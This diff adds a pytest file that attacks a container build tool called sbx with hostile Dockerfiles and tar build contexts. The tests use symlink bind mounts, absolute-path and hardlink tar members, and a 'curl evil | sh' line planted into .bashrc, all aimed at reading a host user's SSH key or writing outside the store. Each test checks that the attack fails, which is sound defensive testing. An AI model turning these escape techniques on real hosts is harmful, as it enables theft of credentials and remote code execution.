@@ -1,0 +1,190 @@
+"""Attacks on the surfaces added after the first security audit: RUN --mount, the Docker API
+service (build contexts, archives), named volumes, the network holder and the files sbx keeps
+in its runtime directory.  Every test plays the hostile side (a Dockerfile and context nobody
+vetted, a tar sent to the API, a container) as the unprivileged user running sbx, and checks
+what the host kept: a canary "home" directory of the user's must stay as it was, its secret
+must not reach a container or an image, and nothing may be written outside the store.
+
+Run as sbxsub (placement in a subuid-mapped worker), sbxnosub (in-process) and root."""
+from __future__ import annotations
+
+import http.client
+import io
+import os
+import socket
+import tarfile
+
+import pytest
+
+import sbxtest
+from baseimage import import_busybox
+from sbxtest import sbx, tree_snapshot
+
+SECRET = "PRIVATE KEY of the host user"
+
+
+@pytest.fixture(scope="module")
+def base_image(tmp_path_factory, busybox_rootfs):
+    """base:1, a busybox image, in the session's store."""
+    return import_busybox(tmp_path_factory, busybox_rootfs, "base:1")
+
+
+@pytest.fixture()
+def home(tmp_path):
+    """The victim: a directory of the user's holding a secret; checked unchanged afterwards."""
+    h = tmp_path / "home"
+    (h / ".ssh").mkdir(parents=True)
+    (h / ".ssh" / "id_rsa").write_text(SECRET + "\n")
+    os.chmod(h / ".ssh" / "id_rsa", 0o600)
+    (h / ".bashrc").write_text("echo hello\n")
+    os.chmod(h, 0o700)
+    before = tree_snapshot(h)
+    yield h
+    assert tree_snapshot(h) == before, "the attack changed the host directory it aimed at"
+
+
+def _ctx(tmp_path, dockerfile, files=None, links=None):
+    ctx = tmp_path / "ctx"
+    ctx.mkdir()
+    (ctx / "Dockerfile").write_text(dockerfile)
+    for name, content in (files or {}).items():
+        (ctx / name).parent.mkdir(parents=True, exist_ok=True)
+        (ctx / name).write_text(content)
+    for name, target in (links or {}).items():
+        os.symlink(target, ctx / name)
+    return ctx
+
+
+# --- RUN --mount=type=bind: a symbolic link as the source ---------------------------------------
+
+def test_bind_mount_of_a_context_symlink_does_not_reach_the_host(tmp_path, base_image, home):
+    """`source=link` where the context's link points at the user's home: the mount shows what
+    the link names inside the context (nothing here), never the host directory, even `rw`."""
+    ctx = _ctx(tmp_path, f"FROM {base_image}\n"
+                         "RUN --mount=type=bind,source=link,target=/m,rw "
+                         "cat /m/.ssh/id_rsa; echo pwned > /m/planted; echo pwned >> /m/.bashrc; true\n",
+               links={"link": str(home)})
+    r = sbx("build", "--no-cache", "-t", "surf-bind1", str(ctx), timeout=180)
+    assert SECRET not in r.stdout + r.stderr, "the host's secret was shown to a RUN step"
+    assert not (home / "planted").exists()
+
+
+def test_bind_mount_of_a_stage_symlink_does_not_reach_the_host(tmp_path, base_image, home):
+    """The same link made by a RUN step of another stage (`from=`): resolved in that stage."""
+    ctx = _ctx(tmp_path, f"FROM {base_image} AS evil\n"
+                         f"RUN ln -s {home} /x && ln -s {home}/.ssh/id_rsa /key\n"
+                         f"FROM {base_image}\n"
+                         "RUN --mount=type=bind,from=evil,source=/x,target=/m,rw "
+                         "cat /m/.ssh/id_rsa; echo pwned > /m/planted; true\n"
+                         "RUN --mount=type=bind,from=evil,source=/key,target=/k cat /k; true\n")
+    r = sbx("build", "--no-cache", "-t", "surf-bind2", str(ctx), timeout=180)
+    assert SECRET not in r.stdout + r.stderr, "the host's secret was shown to a RUN step"
+    assert not (home / "planted").exists()
+
+
+def test_bind_mount_symlink_source_resolves_inside_the_context(tmp_path, base_image):
+    """BuildKit's semantics kept: a link to a directory or file of the context mounts that."""
+    ctx = _ctx(tmp_path, f"FROM {base_image}\n"
+                         "RUN --mount=type=bind,source=dirlink,target=/m --mount=type=bind,source=filelink,target=/f "
+                         "cat /m/inner /f > /seen\n",
+               files={"sub/inner": "inner\n", "file": "file\n"},
+               links={"dirlink": "sub", "filelink": "/sub/../file"})
+    r = sbx("build", "-q", "-t", "surf-bind3", str(ctx), timeout=180)
+    assert r.returncode == 0, r.stdout + r.stderr
+    out = sbxtest.ok(sbx("run", "--rm", "surf-bind3", "cat", "/seen", timeout=60))
+    assert out == "inner\nfile\n"
+
+
+# --- the Docker API: POST /build's context tar --------------------------------------------------
+
+@pytest.fixture(scope="module")
+def service(tmp_path_factory, base_image):
+    d = tmp_path_factory.mktemp("svc")
+    path = d / "sbx.sock"
+    p = sbxtest.sbx_popen("system", "service", "--socket", f"unix://{path}")
+    line = p.stdout.readline()
+    assert line.strip() == f"export DOCKER_HOST=unix://{path}", (line, p.stderr.read() if p.poll() else "")
+    yield path
+    p.terminate()
+    p.wait(30)
+
+
+class _UnixConnection(http.client.HTTPConnection):
+    def __init__(self, path):
+        super().__init__("localhost", timeout=180)
+        self.path = str(path)
+
+    def connect(self):
+        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        self.sock.settimeout(180)
+        self.sock.connect(self.path)
+
+
+def _api(service, method, url, body=None, headers=None):
+    c = _UnixConnection(service)
+    try:
+        c.request(method, url, body=body, headers=headers or {})
+        r = c.getresponse()
+        return r.status, r.read()
+    finally:
+        c.close()
+
+
+def _tar(entries):
+    """entries: (name, kind, data) with kind file|symlink|hardlink|dir."""
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tf:
+        for name, kind, data in entries:
+            info = tarfile.TarInfo(name)
+            info.mode = 0o644
+            if kind == "file":
+                info.size = len(data)
+                tf.addfile(info, io.BytesIO(data))
+                continue
+            if kind == "symlink":
+                info.type, info.linkname = tarfile.SYMTYPE, data
+            elif kind == "hardlink":
+                info.type, info.linkname = tarfile.LNKTYPE, data
+            else:
+                info.type, info.mode = tarfile.DIRTYPE, 0o755
+            tf.addfile(info)
+    return buf.getvalue()
+
+
+def _build(service, tar, tag):
+    status, body = _api(service, "POST", f"/v1.44/build?t={tag}&q=1", tar,
+                        {"Content-Type": "application/x-tar"})
+    return status, body.decode("utf-8", "replace")
+
+
+def test_api_build_context_cannot_write_outside_by_absolute_name(service, home, tmp_path):
+    """A context member named with an absolute path lands in the context, not on the host."""
+    victim = tmp_path / "dropped"
+    tar = _tar([("Dockerfile", "file", b"FROM base:1\n"),
+                (str(victim), "file", b"pwned\n"),
+                (str(home / ".bashrc"), "file", b"curl evil | sh\n")])
+    _build(service, tar, "surf-api1")
+    assert not victim.exists(), "the build context wrote a host path the archive named"
+
+
+def test_api_build_context_cannot_write_through_its_own_symlink(service, home):
+    """`evil -> HOME/.bashrc` then a file `evil`, and a directory `d -> HOME` then `d` as a
+    directory: the file replaces the link; nothing is written, chmod'ed or chown'ed through it."""
+    tar = _tar([("Dockerfile", "file", b"FROM base:1\n"),
+                ("evil", "symlink", str(home / ".bashrc")),
+                ("evil", "file", b"curl evil | sh\n"),
+                ("d", "symlink", str(home)),
+                ("d", "dir", b"")])
+    _build(service, tar, "surf-api2")
+
+
+def test_api_build_context_hardlink_cannot_take_a_host_file(service, home):
+    """A hard link member naming the user's key by absolute path must not pull it into the
+    image."""
+    tar = _tar([("Dockerfile", "file", b"FROM base:1\nCOPY k /k\n"),
+                ("k", "hardlink", str(home / ".ssh" / "id_rsa"))])
+    status, body = _build(service, tar, "surf-api3")
+    assert SECRET not in body
+    if status == 200 and '"error' not in body:
+        r = sbx("run", "--rm", "surf-api3", "cat", "/k", timeout=60)
+        assert SECRET not in r.stdout, "the host's key was copied into an image"
